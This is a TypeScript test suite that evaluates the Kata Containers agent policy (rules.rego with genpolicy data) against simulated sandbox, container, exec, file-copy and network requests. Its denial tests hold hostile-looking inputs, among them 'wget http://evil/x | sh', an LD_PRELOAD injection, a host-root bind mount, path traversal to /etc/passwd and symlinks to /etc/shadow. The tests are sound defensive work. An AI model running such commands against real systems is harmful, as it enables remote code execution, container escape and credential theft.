import { describe, test } from 'node:test'
import assert from 'node:assert/strict'
import { compile } from '../index.ts'
import type { CompiledPolicy } from '../api.ts'
import { fromJS } from '../value/json.ts'
import { toRegoText } from '../value/rego-text.ts'
import { RegoObject, type Value } from '../value/value.ts'
import { assertRegoEqual } from './assert-value.ts'
import { FIXTURE, readFixture } from './fixtures.ts'
import { applyStateOps } from './json-patch.ts'
import { genpolicyText, SIMPLE_POD, simplePodPolicyData, type SimplePodOptions } from './kata-policy-data.ts'
import {
  addArpNeighborsRequest,
  copyFileRequest,
  createAppContainerRequest,
  createPauseContainerRequest,
  createSandboxRequest,
  execProcessRequest,
  SANDBOX_SHM_STORAGE,
  sharedHostsPath,
  updateInterfaceRequest,
  updateRoutesRequest,
} from './kata-requests.ts'

/**
 * The current genpolicy `rules.rego` with a `policy_data` built from genpolicy-settings.json
 * for one simple pod (see kata-policy-data.ts for how), evaluated the way the Kata agent does:
 * Rego v0, `data = {"pstate": …}`, rule `data.agent_policy.<Request>`, non-strict builtin
 * errors, prints gathered, and the returned state ops applied to `data` after allowed requests.
 */

const RULES = readFixture(FIXTURE.kataRules)
const SETTINGS = readFixture(FIXTURE.kataSettings)

function compilePolicy(options: SimplePodOptions = {}, regoVersion: 0 | 1 = 0): CompiledPolicy {
  return compile([{ name: 'policy.rego', text: genpolicyText(RULES, simplePodPolicyData(SETTINGS, options)) }], {
    regoVersion,
  })
}

const EMPTY_STATE = fromJS({ pstate: {} })

class Agent {
  readonly policy: CompiledPolicy
  data: Value = EMPTY_STATE
  readonly prints: string[] = []
  constructor(policy: CompiledPolicy) {
    this.policy = policy
  }

  /** The raw policy result for a request. */
  evaluate(request: string, input: unknown): Value | undefined {
    return this.policy.evalRule(`data.agent_policy.${request}`, {
      input: fromJS(input),
      data: this.data,
      strictBuiltinErrors: false,
      print: (e) => this.prints.push(e.message),
    })
  }

  /** The agent's decision; applies the state ops of an allowed request. */
  request(name: string, input: unknown): boolean {
    const v = this.evaluate(name, input)
    if (v === true) return true
    if (v instanceof RegoObject && v.get('allowed') === true) {
      this.data = applyStateOps(this.data, v.get('ops') ?? [])
      return true
    }
    return false
  }
}

function addOp(key: string, value: unknown): Record<string, unknown> {
  return { op: 'add', path: `/pstate/${key}`, value }
}

let defaultPolicy: CompiledPolicy | undefined
/** The policy for the settings as shipped, compiled on first use. */
function policy(): CompiledPolicy {
  defaultPolicy ??= compilePolicy()
  return defaultPolicy
}

/** An agent in which the sandbox and the busybox container have been created. */
function runningPod(p: CompiledPolicy = policy()): Agent {
  const agent = new Agent(p)
  assert.equal(agent.request('CreateSandboxRequest', createSandboxRequest()), true)
  assert.equal(agent.request('CreateContainerRequest', createPauseContainerRequest()), true)
  assert.equal(agent.request('CreateContainerRequest', createAppContainerRequest()), true)
  return agent
}

describe('Kata rules.rego + genpolicy policy_data: CreateContainerRequest', () => {
  test('the policy_data literal is part of the policy', () => {
    const containers = policy().prepareQuery('n := count(data.agent_policy.policy_data.containers)').eval()
    assert.equal(containers[0]?.get('n'), 2)
    assert.equal(
      policy().evalRule('data.agent_policy.policy_data.common.spath', {}),
      '/run/kata-containers/sandbox/storage',
    )
  })

  test('the pause container is allowed on an empty state, with the state ops', () => {
    const agent = new Agent(policy())
    assertRegoEqual(agent.evaluate('CreateContainerRequest', createPauseContainerRequest()), {
      ops: [
        addOp('sandbox_name', SIMPLE_POD.name),
        addOp('namespace', SIMPLE_POD.namespace),
        addOp('network_namespace', SIMPLE_POD.networkNamespace),
        addOp(SIMPLE_POD.sandboxId, 0),
      ],
      allowed: true,
    })
    assert.ok(agent.prints.includes('CreateContainerRequest: true'), 'prints are gathered')
  })

  test('the busybox container is allowed on an empty state', () => {
    const agent = new Agent(policy())
    assertRegoEqual(agent.evaluate('CreateContainerRequest', createAppContainerRequest()), {
      ops: [
        addOp('sandbox_name', SIMPLE_POD.name),
        addOp('namespace', SIMPLE_POD.namespace),
        addOp('network_namespace', SIMPLE_POD.networkNamespace),
        addOp(SIMPLE_POD.containerId, 1),
      ],
      allowed: true,
    })
  })

  test('after the sandbox, only the new container id is added to the state', () => {
    const agent = new Agent(policy())
    assert.equal(agent.request('CreateContainerRequest', createPauseContainerRequest()), true)
    assertRegoEqual(agent.evaluate('CreateContainerRequest', createAppContainerRequest()), {
      ops: [addOp(SIMPLE_POD.containerId, 1)],
      allowed: true,
    })
    assert.equal(agent.request('CreateContainerRequest', createAppContainerRequest()), true)
    assertRegoEqual(agent.data, {
      pstate: {
        sandbox_name: SIMPLE_POD.name,
        namespace: SIMPLE_POD.namespace,
        network_namespace: SIMPLE_POD.networkNamespace,
        [SIMPLE_POD.sandboxId]: 0,
        [SIMPLE_POD.containerId]: 1,
      },
    })
  })

  const denied: [string, () => unknown][] = [
    ['a changed command', () => createAppContainerRequest({ args: ['sh', '-c', 'wget http://evil/x | sh'] })],
    ['an extra command argument', () => createAppContainerRequest({ args: ['sh', '-x'] })],
    ['an extra environment variable', () => createAppContainerRequest({ extraEnv: ['LD_PRELOAD=/tmp/evil.so'] })],
    [
      'an extra host mount',
      () =>
        createAppContainerRequest({
          extraMounts: [{ destination: '/host', source: '/', type_: 'bind', options: ['rbind', 'rw'] }],
        }),
    ],
    ['a mount source outside the shared directory', () => createAppContainerRequest({ hostsSource: '/etc/shadow' })],
    [
      'another namespace',
      () => createAppContainerRequest({ annotations: { 'io.kubernetes.cri.sandbox-namespace': 'kube-system' } }),
    ],
    [
      'another container name',
      () => createAppContainerRequest({ annotations: { 'io.kubernetes.cri.container-name': 'sidecar' } }),
    ],
    [
      'an unexpected annotation',
      () =>
        createAppContainerRequest({
          annotations: { 'io.katacontainers.config.hypervisor.kernel_params': 'init=/bin/sh' },
        }),
    ],
  ]
  for (const [what, build] of denied) {
    test(`denied: ${what}`, () => {
      const agent = new Agent(policy())
      assert.equal(agent.request('CreateContainerRequest', createPauseContainerRequest()), true)
      assert.equal(agent.evaluate('CreateContainerRequest', build()), false)
    })
  }

  test('denied: a container for another sandbox name than the state holds', () => {
    const agent = new Agent(policy())
    agent.data = fromJS({ pstate: { sandbox_name: 'other-pod' } })
    assert.equal(agent.evaluate('CreateContainerRequest', createAppContainerRequest()), false)
  })

  test('denied: without `data.pstate` (state_allows needs the state)', () => {
    assert.equal(
      policy().evalRule('data.agent_policy.CreateContainerRequest', { input: fromJS(createAppContainerRequest()) }),
      false,
    )
  })

  test('the same policy compiles and decides the same as Rego v1', () => {
    const v1 = new Agent(compilePolicy({}, 1))
    assert.equal(v1.request('CreateContainerRequest', createPauseContainerRequest()), true)
    assert.equal(v1.request('CreateContainerRequest', createAppContainerRequest()), true)
    assert.equal(v1.evaluate('CreateContainerRequest', createAppContainerRequest({ args: ['id'] })), false)
  })
})

describe('Kata rules.rego: other requests', () => {
  test('ExecProcessRequest is denied by default', () => {
    const agent = runningPod()
    assert.equal(agent.evaluate('ExecProcessRequest', execProcessRequest(['sh'])), false)
    assert.equal(agent.evaluate('ExecProcessRequest', execProcessRequest(['echo', 'hello'])), false)
  })

  test('ExecProcessRequest: request_defaults.allowed_commands', () => {
    const agent = runningPod(
      compilePolicy({ requestDefaults: { ExecProcessRequest: { allowed_commands: [['echo', 'hello']], regex: [] } } }),
    )
    assert.equal(agent.evaluate('ExecProcessRequest', execProcessRequest(['echo', 'hello'])), true)
    assert.equal(agent.evaluate('ExecProcessRequest', execProcessRequest(['echo', 'bye'])), false)
    assert.equal(
      agent.evaluate('ExecProcessRequest', execProcessRequest(['echo', 'hello'], 'f'.repeat(64))),
      false,
      'unknown container',
    )
  })

  test('ExecProcessRequest: request_defaults.regex', () => {
    const agent = runningPod(
      compilePolicy({ requestDefaults: { ExecProcessRequest: { allowed_commands: [], regex: ['^sleep [0-9]+$'] } } }),
    )
    assert.equal(agent.evaluate('ExecProcessRequest', execProcessRequest(['sleep', '5'])), true)
    assert.equal(agent.evaluate('ExecProcessRequest', execProcessRequest(['sleep', '5;', 'sh'])), false)
  })

  test('ExecProcessRequest: the container exec_commands (probes)', () => {
    const agent = runningPod(compilePolicy({ execCommands: [['cat', '/tmp/healthy']] }))
    assert.equal(agent.evaluate('ExecProcessRequest', execProcessRequest(['cat', '/tmp/healthy'])), true)
    assert.equal(agent.evaluate('ExecProcessRequest', execProcessRequest(['cat', '/etc/shadow'])), false)
  })

  test('RemoveContainerRequest removes the container from the state', () => {
    const agent = runningPod()
    const input = { container_id: SIMPLE_POD.containerId, timeout: 0 }
    assertRegoEqual(agent.evaluate('RemoveContainerRequest', input), {
      ops: [{ op: 'remove', path: `/pstate/${SIMPLE_POD.containerId}` }],
      allowed: true,
    })
    assert.equal(agent.request('RemoveContainerRequest', input), true)
    assert.equal(agent.evaluate('ExecProcessRequest', execProcessRequest(['echo', 'hello'])), false)
    const pstate = agent.data instanceof RegoObject ? agent.data.get('pstate') : undefined
    assert.ok(pstate instanceof RegoObject && !pstate.has(SIMPLE_POD.containerId), toRegoText(agent.data))
  })

  const streamRequests = [
    'CloseStdinRequest',
    'ReadStreamRequest',
    'WriteStreamRequest',
    'UpdateEphemeralMountsRequest',
    'GetDiagnosticDataRequest',
  ]
  test('request_defaults booleans: denied as the settings ship them', () => {
    for (const r of streamRequests)
      assert.equal(policy().evalRule(`data.agent_policy.${r}`, { input: fromJS({}), data: EMPTY_STATE }), false, r)
  })
  test('request_defaults booleans: allowed when set to true', () => {
    const p = compilePolicy({ requestDefaults: Object.fromEntries(streamRequests.map((r) => [r, true])) })
    for (const r of streamRequests)
      assert.equal(p.evalRule(`data.agent_policy.${r}`, { input: fromJS({}), data: EMPTY_STATE }), true, r)
  })

  test('CreateSandboxRequest', () => {
    const agent = new Agent(policy())
    assert.equal(agent.evaluate('CreateSandboxRequest', createSandboxRequest()), true)
    assert.equal(agent.evaluate('CreateSandboxRequest', createSandboxRequest({ kernelModules: ['evil'] })), false)
    const extra = {
      driver: 'local',
      driver_options: [],
      source: 'x',
      fstype: 'local',
      options: [],
      mount_point: '/x',
      fs_group: null,
    }
    assert.equal(
      agent.evaluate('CreateSandboxRequest', createSandboxRequest({ storages: [SANDBOX_SHM_STORAGE, extra] })),
      false,
    )
    assert.equal(agent.evaluate('CreateSandboxRequest', { ...createSandboxRequest(), sandbox_pidns: true }), false)
  })

  test('CopyFileRequest: shared files only', () => {
    const agent = new Agent(policy())
    assert.equal(agent.evaluate('CopyFileRequest', copyFileRequest(sharedHostsPath())), true)
    assert.equal(agent.evaluate('CopyFileRequest', copyFileRequest('/etc/passwd')), false)
    assert.equal(
      agent.evaluate('CopyFileRequest', copyFileRequest(`${sharedHostsPath()}/../../../../etc/passwd`)),
      false,
    )
    const dir = `/run/kata-containers/shared/containers/watchable/${SIMPLE_POD.containerId}-5f0e5e3718c35792-serviceaccount`
    assert.equal(agent.evaluate('CopyFileRequest', copyFileRequest(dir, 'Directory')), true)
    assert.equal(agent.evaluate('CopyFileRequest', copyFileRequest(`${dir}/token`, 'Symlink', '..data/token')), true)
    assert.equal(agent.evaluate('CopyFileRequest', copyFileRequest(`${dir}/token`, 'Symlink', '/etc/shadow')), false)
    assert.equal(agent.evaluate('CopyFileRequest', copyFileRequest(`${dir}/token`, 'Symlink', '../../x')), false)
    assert.equal(
      agent.evaluate('CopyFileRequest', copyFileRequest(dir, 'Symlink', 'x')),
      false,
      'no symlink at the top level',
    )
  })

  test('UpdateInterfaceRequest', () => {
    const agent = new Agent(policy())
    assert.equal(agent.evaluate('UpdateInterfaceRequest', updateInterfaceRequest()), true)
    assert.equal(agent.evaluate('UpdateInterfaceRequest', updateInterfaceRequest({ rawFlags: 128 })), true, 'IFF_NOARP')
    assert.equal(agent.evaluate('UpdateInterfaceRequest', updateInterfaceRequest({ rawFlags: 1 })), false)
    assert.equal(agent.evaluate('UpdateInterfaceRequest', updateInterfaceRequest({ name: 'lo' })), false)
    assert.equal(
      agent.evaluate('UpdateInterfaceRequest', updateInterfaceRequest({ hwAddr: '00:00:00:00:00:00' })),
      false,
    )
  })

  test('UpdateRoutesRequest', () => {
    const agent = new Agent(policy())
    assert.equal(agent.evaluate('UpdateRoutesRequest', updateRoutesRequest()), true)
    assert.equal(agent.evaluate('UpdateRoutesRequest', updateRoutesRequest({ source: '127.0.0.1' })), false)
    assert.equal(agent.evaluate('UpdateRoutesRequest', updateRoutesRequest({ source: '::1' })), false)
    assert.equal(agent.evaluate('UpdateRoutesRequest', updateRoutesRequest({ device: 'lo' })), false)
  })

  test('AddARPNeighborsRequest', () => {
    const agent = new Agent(policy())
    assert.equal(agent.evaluate('AddARPNeighborsRequest', addArpNeighborsRequest()), true)
    assert.equal(agent.evaluate('AddARPNeighborsRequest', addArpNeighborsRequest({ state: 2, flags: 8 })), true)
    assert.equal(agent.evaluate('AddARPNeighborsRequest', addArpNeighborsRequest({ address: '127.0.0.2' })), false)
    assert.equal(agent.evaluate('AddARPNeighborsRequest', addArpNeighborsRequest({ state: 4 })), false)
    assert.equal(agent.evaluate('AddARPNeighborsRequest', addArpNeighborsRequest({ flags: 1 })), false)
    assert.equal(agent.evaluate('AddARPNeighborsRequest', addArpNeighborsRequest({ device: 'lo' })), false)
  })

  test('requests decided by their default alone', () => {
    const defaults = new Map<string, boolean>()
    for (const m of RULES.matchAll(/^default (\w+) := (true|false)$/gm)) defaults.set(m[1] as string, m[2] === 'true')
    const withBodies = new Set([...RULES.matchAll(/^(\w+)(?: if|\s*:?=[^=]| \{)/gm)].map((m) => m[1] as string))
    const defaultOnly = [...defaults].filter(([name]) => !withBodies.has(name))
    assert.ok(defaultOnly.length >= 20, `found ${defaultOnly.length}`)
    for (const [name, value] of defaultOnly) {
      assert.equal(
        policy().evalRule(`data.agent_policy.${name}`, { input: fromJS({ container_id: 'c' }), data: EMPTY_STATE }),
        value,
        name,
      )
    }
    assert.equal(defaults.get('AllowRequestsFailingPolicy'), false)
    assert.equal(defaults.get('StartContainerRequest'), true)
    assert.equal(defaults.get('SetPolicyRequest'), false)
  })
})
